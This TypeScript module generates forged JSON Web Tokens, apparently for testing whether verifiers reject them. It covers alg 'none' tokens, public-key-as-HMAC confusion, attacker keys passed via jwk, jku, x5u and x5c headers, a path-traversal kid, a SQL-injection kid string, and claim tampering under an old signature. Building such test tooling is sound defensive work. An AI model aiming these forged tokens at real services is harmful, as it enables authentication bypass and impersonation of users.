// JWTs that look like one that was signed by someone else.
import {
  base64url,
  type CryptoKey,
  exportJWK,
  exportSPKI,
  generateKeyPair,
  importJWK,
  type JWK,
  type JWTHeaderParameters,
  type JWTPayload,
  SignJWT,
} from "jose";

/** The key that a signer publishes, and where the victim of a `jku` or `x5u` header would fetch an attacker's. */
export interface ForgeryTarget {
  publicKey: JWK;
  /** An address of the attacker's, where nobody should ever look for a key. */
  attacker: string;
}

/**
 * Every classic way to pass a payload off as signed (RFC 8725, 2.1 to 2.9): no signature, a MAC under the public key, a key of the
 * attacker's own, brought along or referred to.
 */
export async function forgeries(payload: JWTPayload, { publicKey, attacker }: ForgeryTarget): Promise<Record<string, string>> {
  const { alg = "RS256", kid } = publicKey;
  const own = await generateKeyPair(alg, { extractable: true });
  const ownJwk = { ...(await exportJWK(own.publicKey)), alg, use: "sig" };
  const spki = await exportSPKI((await importJWK(publicKey, alg, { extractable: true })) as CryptoKey);
  const named = kid === undefined ? {} : { kid };
  const sign = (header: JWTHeaderParameters, key: CryptoKey | Uint8Array = own.privateKey) =>
    new SignJWT(payload).setProtectedHeader(header).sign(key);
  const mac = (key: string) => sign({ alg: "HS256", ...named }, new TextEncoder().encode(key));
  const unsigned = (header: object) => `${encode(header)}.${encode(payload)}.`;
  const genuineLooking = await sign({ alg, ...named });
  return {
    "no signature": unsigned({ alg: "none" }),
    "no signature, typed": unsigned({ alg: "none", typ: "JWT", ...named }),
    "no signature, another case": unsigned({ alg: "NoNe" }),
    "an empty signature": genuineLooking.replace(/[^.]+$/, ""),
    "no algorithm": unsigned({ ...named }),
    "a MAC under the public key (PEM)": await mac(spki),
    "a MAC under the public key (PEM without its last line break)": await mac(spki.trimEnd()),
    "a MAC under the public key (JWK)": await mac(JSON.stringify(publicKey)),
    "a MAC under the modulus or the point": await mac(String(publicKey.n ?? publicKey.x)),
    "another's key under the right kid": genuineLooking,
    "another's key under no kid": await sign({ alg }),
    "another's key, brought along (jwk)": await sign({ alg, ...named, jwk: ownJwk }),
    "another's key, referred to (jku)": await sign({ alg, ...named, jku: `${attacker}/jku` }),
    "another's key, referred to (x5u)": await sign({ alg, ...named, x5u: `${attacker}/x5u` }),
    "another's key, brought along (x5c)": await sign({ alg, ...named, x5c: [btoa("certificate")] }),
    "a kid that is a path": await sign({ alg: "HS256", kid: "/dev/null" }, new Uint8Array(32)),
    "a kid that is an injection": await sign({ alg, kid: "' UNION SELECT 'x" }),
  };
}

/** A genuine JWT with claims changed, under its old signature. */
export function altered(jwt: string, changes: JWTPayload): string {
  const [header, payload, signature] = jwt.split(".");
  const claims = JSON.parse(new TextDecoder().decode(base64url.decode(payload as string))) as JWTPayload;
  return `${header}.${encode({ ...claims, ...changes })}.${signature}`;
}

function encode(value: object): string {
  return base64url.encode(JSON.stringify(value));
}
